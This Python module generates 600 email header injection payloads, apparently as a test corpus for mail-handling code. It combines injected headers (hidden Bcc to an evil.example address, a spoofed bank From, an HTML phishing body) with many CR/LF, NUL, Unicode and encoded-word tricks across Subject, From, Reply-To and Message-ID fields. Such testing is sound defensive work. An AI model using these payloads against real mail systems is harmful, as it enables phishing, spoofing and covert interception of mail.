"""Six hundred ways to get a line into somebody else's mail: where it stands × how it is written × what it is."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote_from_bytes

Writing = Callable[[bytes], bytes]

CARLA = b"carla@customer.example"

# What the stranger wants there.
WANTED = {
    "a hidden recipient": b"Bcc: eve@evil.example",
    "another recipient": b"To: eve@evil.example",
    "another kind of text": b"Content-Type: text/html",
    "the end of the header": b"\r\n<b>Pay here</b>",
    "another author": b"From: bank@evil.example",
}


def _q(raw: bytes, charset: bytes = b"utf-8") -> bytes:
    digits = b"".join(b"=%02X" % one for one in raw)
    return b"=?" + charset + b"?q?" + digits + b"?="


def _b(raw: bytes, charset: bytes = b"utf-8") -> bytes:
    return b"=?" + charset + b"?b?" + b64encode(raw) + b"?="


def _utf7(wanted: bytes) -> bytes:
    return b"=?utf-7?q?+AA0ACg-" + wanted.replace(b" ", b"_").replace(b"\r\n", b"+AA0ACg-") + b"?="


# How the line end before it is written.
WRITINGS: dict[str, Writing] = {
    "CR LF": lambda wanted: b"\r\n" + wanted,
    "a bare LF": lambda wanted: b"\n" + wanted,
    "a bare CR": lambda wanted: b"\r" + wanted,
    "two bare CR": lambda wanted: b"\r\r" + wanted,
    "NUL": lambda wanted: b"\0" + wanted,
    "NUL LF": lambda wanted: b"\0\n" + wanted,
    "a folded line": lambda wanted: b"\r\n \r\n\t" + wanted,
    "U+2028 in UTF-8": lambda wanted: "\u2028".encode() + wanted,
    "NEL in UTF-8": lambda wanted: "\x85".encode() + wanted,
    "NEL in Latin-1": lambda wanted: b"\x85" + wanted,
    "overlong UTF-8": lambda wanted: b"\xc0\x8d\xc0\x8a" + wanted,
    "an encoded LF": lambda wanted: b"=?utf-8?q?=0A?=" + wanted,
    "all in one encoded word": lambda wanted: _q(b"\r\n" + wanted),
    "base64": lambda wanted: _b(b"\r\n" + wanted),
    "two encoded words": lambda wanted: _q(b"\r") + b"\r\n " + _q(b"\n" + wanted),
    "doubly encoded": lambda wanted: _q(_q(b"\r\n" + wanted)),
    "triply encoded": lambda wanted: _b(_q(_b(b"\r\n" + wanted))),
    "UTF-7": _utf7,
    "UTF-16": lambda wanted: _b(("\r\n" + wanted.decode()).encode("utf-16-be"), b"utf-16be"),
    "RFC 2231": lambda wanted: b"*=utf-8''" + quote_from_bytes(b"\r\n" + wanted).encode(),
}  # fmt: skip

# Where it stands: the field that the stranger writes, around what he wants.
PLACES: dict[str, Callable[[bytes], dict[bytes, bytes]]] = {
    "subject": lambda what: {b"Subject": b"Hello" + what},
    "display name": lambda what: {b"From": b'"Carla' + what + b'" <carla@customer.example>'},
    "name without quotes": lambda what: {b"From": b"Carla " + what + b" <carla@customer.example>"},
    "Reply-To": lambda what: {b"Reply-To": b"Carla <carla" + what + b"@customer.example>"},
    "web form": lambda what: {b"From": b"form@forms.example", b"Reply-To": b'"Carla' + what + b'" <' + CARLA + b">"},
    "Message-ID": lambda what: {b"Message-ID": b"<question" + what + b"@customer.example>", b"References": what},
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Injection:
    """One attempt."""

    name: str
    fields: dict[bytes, bytes]


def injections() -> Iterator[Injection]:
    """Yield all of them, always the same."""
    for place, writing, wanted in product(PLACES, WRITINGS, WANTED):
        fields = PLACES[place](WRITINGS[writing](WANTED[wanted]))
        yield Injection(name=f"{wanted} by {writing} in {place}", fields=fields)


def sample() -> list[Injection]:
    """Return every tenth of them, so chosen that every place, every writing and every wish is among them."""
    every = list(injections())
    return [every[10 * number + (number + 5 * (number // 10)) % 10] for number in range(len(every) // 10)]
